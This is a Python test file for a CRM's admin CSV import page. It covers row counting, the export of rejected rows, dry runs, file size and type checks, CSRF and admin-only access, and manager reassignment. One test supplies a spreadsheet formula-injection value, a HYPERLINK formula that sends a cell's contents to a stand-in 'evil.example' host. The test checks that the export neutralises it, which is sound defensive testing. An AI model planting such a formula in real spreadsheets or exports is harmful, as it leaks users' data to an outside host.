"""``/import``: an admin uploads a table of clients or sales; the summary counts what was added,
updated, left and rejected, and the rejected rows come back as a CSV of exactly those rows; an
oversized file, a file of another type (by its name or its content), a form without its token
and a person who is not an admin change nothing; a dry run stores nothing."""

from __future__ import annotations

import csv
import io
from typing import Any

from aiohttp import FormData

from config.settings import TelegramSettings
from hub.app import create_app
from hub.bootstrap.console import IMPORTS
from hub.console.import_upload import LIMIT
from tests.support.api import Api
from tests.support.clock import TestClock
from tests.support.console import Browser, Page, with_password
from tests.support.settings import ADMIN_TOKEN, HOOK_SECRET, make_settings
from tests.support.team import miss, outbox, sales_team

LUTIK = "+79031112200"
CLIENTS = (
    "Наименование;Телефон;Менеджер;Статус;Комментарий\n"
    "ИП Новиков;+7 916 000-00-01;Иван;;\n"  # 2: a new card
    "ООО Ромашка;+79031112233;Иван;;звонить после обеда\n"  # 3: notes added
    f"ООО Лютик;{LUTIK};Иван;;\n"  # 4: as it is
    ";+79160000002;;;\n"  # 5: no name
    "ООО Плохой номер;12;;;\n"  # 6: not a phone
    "ООО Странный;+79160000003;;непонятный;\n"  # 7: no such status
)
BAD_LINES = [5, 6, 7]


async def _admin(api: Api) -> tuple[dict[str, Any], Browser]:
    team = await sales_team(api, (("ООО Ромашка", "+79031112233"), ("ООО Лютик", LUTIK)))
    admin = await api.post("/api/v1/managers", {"name": "Админ Главный", "role": "admin"})
    await with_password(api, admin["id"], "correct horse", login="admin")
    browser = Browser(api)
    assert (await browser.log_in("admin", "correct horse")).status == 303
    return team, browser


async def _upload(
    browser: Browser,
    name: str,
    content: bytes,
    *,
    token: str | None = None,
    **fields: str,
) -> Page:
    if token is None:
        token = (await browser.get("/import")).token
    form = FormData()
    if token:
        form.add_field("csrf", token)
    for key, value in {"kind": "clients", **fields}.items():
        form.add_field(key, value)
    form.add_field("file", content, filename=name, content_type="application/octet-stream")
    async with browser.client.post("/import", data=form, allow_redirects=False) as response:
        return Page(response.status, await response.text(), response)


async def _finished(api: Api, browser: Browser, started: Page) -> Page:
    assert started.status == 303, started.text
    assert started.location is not None and started.location.startswith("/import/")
    await api.app[IMPORTS].wait(started.location.rsplit("/", 1)[1])
    return await browser.get(started.location)


def _count(page: Page, key: str) -> str:
    start = page.text.index(f'data-count="{key}"')
    figure = page.text[page.text.index("<dd>", start) + 4 :]
    return figure[: figure.index("</dd>")]


async def _client_names(api: Api) -> list[str]:
    return sorted(c["name"] for c in (await api.get("/api/v1/clients"))["items"])


async def test_good_and_bad_rows_are_counted_and_the_bad_ones_come_back(api: Api) -> None:
    team, browser = await _admin(api)
    started = await _upload(browser, "клиенты.csv", CLIENTS.encode("cp1251"))
    done = await _finished(api, browser, started)
    assert done.status == 200
    assert [_count(done, k) for k in ("created", "updated", "unchanged", "rejected")] == [
        "1",
        "1",
        "1",
        "3",
    ]
    # The reasons in the company's language (Russian unless set otherwise).
    assert "не указано наименование" in done.text and "ООО Плохой номер" in done.text
    assert "телефон &#39;12&#39; — не внешний номер" in done.text
    assert "статус &#39;непонятный&#39; не из списка" in done.text
    for line in BAD_LINES:
        assert f'data-line="{line}"' in done.text
    report = await browser.get(started.location + "/rejected.csv")  # type: ignore[operator]
    assert report.status == 200
    rows = list(csv.reader(io.StringIO(report.text.removeprefix("\ufeff")), delimiter=";"))
    assert rows[0] == [
        "Наименование",
        "Телефон",
        "Менеджер",
        "Статус",
        "Комментарий",
        "line",
        "reason",
    ]
    assert [r[:5] for r in rows[1:]] == [
        ["", "+79160000002", "", "", ""],
        ["ООО Плохой номер", "12", "", "", ""],
        ["ООО Странный", "+79160000003", "", "непонятный", ""],
    ]
    assert [int(r[5]) for r in rows[1:]] == BAD_LINES
    assert rows[1][6] == "не указано наименование"
    new = (await api.get("/api/v1/clients?name=Новиков"))["items"]
    assert [(c["name"], c["phones"], c["manager_id"]) for c in new] == [
        ("ИП Новиков", ["+79160000001"], team["ivan"]["id"])
    ]
    romashka = await api.get(f"/api/v1/clients/{team['clients'][0]['id']}")
    assert romashka["notes"] == "звонить после обеда"
    audit = await api.get("/api/v1/audit?entity=client&entity_id=" + str(new[0]["id"]))
    assert [a["actor"] for a in audit["items"]] == ["Админ Главный"]
    assert "клиенты.csv" in (await browser.get("/import")).text


async def test_a_dry_run_counts_and_stores_nothing(api: Api) -> None:
    _, browser = await _admin(api)
    before = await _client_names(api)
    done = await _finished(
        api, browser, await _upload(browser, "clients.csv", CLIENTS.encode(), dry_run="1")
    )
    assert (_count(done, "created"), _count(done, "rejected")) == ("1", "3")
    assert "пробный запуск, ничего не сохранено" in done.text
    assert await _client_names(api) == before


async def test_sales_are_imported_with_their_rejected_rows(api: Api) -> None:
    _, browser = await _admin(api)
    sales = "Контрагент;Дата;Сумма\nООО Ромашка;01.10.2026;1500,50\nООО Никто;01.10.2026;10\n"
    done = await _finished(
        api, browser, await _upload(browser, "sales.csv", sales.encode(), kind="sales")
    )
    assert [_count(done, k) for k in ("added", "already", "rejected")] == ["1", "0", "1"]
    assert 'data-line="3"' in done.text and 'data-line="2"' not in done.text


async def test_an_oversized_or_foreign_file_changes_nothing(api: Api) -> None:
    _, browser = await _admin(api)
    before = await _client_names(api)
    big = (CLIENTS + "x" * (LIMIT - len(CLIENTS.encode()) + 1)).encode()
    assert len(big) == LIMIT + 1
    refused = await _upload(browser, "big.csv", big)
    assert refused.status == 413
    assert "Файл больше 10 МБ; ничего не загружено." in refused.text
    cases = {
        "clients.xls": (b"\xd0\xcf\x11\xe0" + b"\0" * 100, 415, "Загружаются только файлы CSV"),
        "clients.pdf": (b"%PDF-1.4", 415, "Загружаются только файлы CSV"),
        "clients.xlsx": (CLIENTS.encode(), 415, "Содержимое файла не похоже на таблицу"),
        "clients.csv": (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", 415, "Содержимое файла не похоже"),
        "empty.csv": (b"", 400, "Выберите непустой файл"),
        "broken.xlsx": (b"PK\x03\x04garbage", 400, "broken.xlsx is a binary file"),
        "header.csv": ("Кто;Что\nа;б\n".encode(), 400, "header.csv: no column for name"),
    }
    for name, (content, status, says) in cases.items():
        answer = await _upload(browser, name, content)
        assert (answer.status, says in answer.text) == (status, True), (name, answer.text)
    assert api.app[IMPORTS].recent() == []
    assert await _client_names(api) == before


async def test_only_an_admin_imports_and_only_with_the_forms_token(api: Api) -> None:
    team, browser = await _admin(api)
    before = await _client_names(api)
    forged = await _upload(browser, "clients.csv", CLIENTS.encode(), token="")
    assert forged.status == 403
    wrong = await _upload(browser, "clients.csv", CLIENTS.encode(), token="not-the-token")
    assert wrong.status == 403
    browser.forget_cookies()
    await with_password(api, team["boss"]["id"], "correct horse", login="olga")
    assert (await browser.log_in("olga", "correct horse")).status == 303
    assert (await browser.get("/import")).status == 403
    home = await browser.get("/")
    refused = await _upload(browser, "clients.csv", CLIENTS.encode(), token=home.token)
    assert refused.status == 403 and "Этот раздел не для вашей роли." in refused.text
    assert api.app[IMPORTS].recent() == []
    assert await _client_names(api) == before
    assert (await browser.get("/import/0123456789abcdef")).status == 403


async def test_rejected_rows_come_back_as_text_a_spreadsheet_does_not_compute(api: Api) -> None:
    _, browser = await _admin(api)
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Открыть")'
    uploaded = (
        "Наименование;Телефон;Менеджер;Статус;Комментарий\n"
        f'"{evil.replace(chr(34), chr(34) * 2)}";12;;;@SUM(1+1)\n'
        "ООО Знак;+79160000004;;непонятный;-2+3\n"
    )
    started = await _upload(browser, "formulas.csv", uploaded.encode())
    done = await _finished(api, browser, started)
    assert _count(done, "rejected") == "2"
    report = await browser.get(f"{started.location}/rejected.csv")
    rows = list(csv.reader(io.StringIO(report.text.removeprefix("\ufeff")), delimiter=";"))
    assert [r[:5] for r in rows[1:]] == [
        ["'" + evil, "12", "", "", "'@SUM(1+1)"],
        ["ООО Знак", "+79160000004", "", "непонятный", "'-2+3"],
    ]
    assert [int(r[5]) for r in rows[1:]] == [2, 3]


async def test_reasons_in_english_when_the_company_speaks_english(
    aiohttp_client: Any, db_url: str, clock: TestClock
) -> None:
    settings = make_settings(db_url, telegram=TelegramSettings(language="en"))
    app = await aiohttp_client(create_app(settings, clock=clock))
    _, browser = await _admin(Api(app, ADMIN_TOKEN, HOOK_SECRET))
    started = await _upload(browser, "клиенты.csv", CLIENTS.encode("cp1251"))
    done = await _finished(Api(app, ADMIN_TOKEN, HOOK_SECRET), browser, started)
    assert "name is empty" in done.text and "не указано наименование" not in done.text
    assert "status must be one of" in done.text
    report = await browser.get(f"{started.location}/rejected.csv")
    rows = list(csv.reader(io.StringIO(report.text.removeprefix("\ufeff")), delimiter=";"))
    assert rows[1][6] == "name is empty"


async def test_sales_reasons_in_russian(api: Api) -> None:
    _, browser = await _admin(api)
    sales = (
        "Контрагент;Дата;Сумма\n"
        "ООО Ромашка;вчера;100\n"
        "ООО Ромашка;01.11.2026;-5\n"
        "Нет такого;01.11.2026;100\n"
    )
    started = await _upload(browser, "продажи.csv", sales.encode(), kind="sales")
    done = await _finished(api, browser, started)
    assert _count(done, "rejected") == "3"
    assert "&#39;вчера&#39; — не дата" in done.text
    assert "сумма &#39;-5&#39; — не покупка (ноль или меньше)" in done.text
    assert "клиент &#39;Нет такого&#39; не найден" in done.text


async def test_an_import_that_changes_a_cards_manager_hands_its_case_over(api: Api) -> None:
    team, browser = await _admin(api)
    ivan = team["ivan"]["id"]
    petr = await api.post(
        "/api/v1/managers", {"name": "Пётр", "extension": "102", "telegram_chat_id": 1002}
    )
    romashka_case = await miss(api, "m1", "+79031112233")
    lutik_case = await miss(api, "m2", LUTIK)
    table = (
        "Наименование;Телефон;Менеджер\n"
        "ООО Ромашка;+79031112233;102\n"  # to Пётр
        f"ООО Лютик;{LUTIK};101\n"  # Иван's as before
    )
    dry = await _finished(
        api, browser, await _upload(browser, "dry.csv", table.encode(), dry_run="1")
    )
    assert _count(dry, "updated") == "1"
    assert (await api.get(f"/api/v1/callback-cases/{romashka_case['id']}"))["manager_id"] == ivan
    assert not [m for m in await outbox(api) if m.chat_id == 1002]  # a dry run tells nobody
    await _finished(api, browser, await _upload(browser, "менеджеры.csv", table.encode()))
    moved = await api.get(f"/api/v1/callback-cases/{romashka_case['id']}")
    assert (moved["manager_id"], petr["id"] in moved["told"], ivan in moved["told"]) == (
        petr["id"],
        True,
        False,
    )
    assert (await api.get(f"/api/v1/callback-cases/{lutik_case['id']}"))["manager_id"] == ivan
    audit = (await api.get("/api/v1/audit?entity=callback_case&limit=100"))["items"]
    assert [(a["action"], a["entity_id"]) for a in audit] == [
        ("reassign", str(romashka_case["id"]))
    ]
    # Пётр is told of the case he now answers for.
    assert [m.chat_id for m in await outbox(api) if m.chat_id == 1002] == [1002]
